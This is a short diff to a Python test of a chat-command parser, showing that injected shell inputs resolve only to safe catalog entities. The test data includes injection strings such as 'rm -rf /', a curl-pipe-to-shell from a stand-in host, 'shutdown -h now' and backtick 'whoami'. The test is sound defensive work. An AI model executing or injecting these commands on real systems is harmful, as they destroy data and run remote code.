@@ -38,7 +38,7 @@ def assert_entities_are_safe(entities, vocabulary):
     [
         ("restart billing; rm -rf /", {"action": "restart", "service": "billing"}),
         ("restart `billing`", {"action": "restart", "service": "billing"}),
-        ("restart $(curl evil.sh | sh)", {"action": "restart"}),
+        ("restart $(curl evil.sh | sh)", {}),  # names nothing in the catalog: no command
         ("restart billing && shutdown -h now", {"action": "restart", "service": "billing"}),
         ("escalate 12 to `whoami`", {"incident": 12}),
         ("escalate 12 to dba;reboot", {"incident": 12, "target": "dba"}),
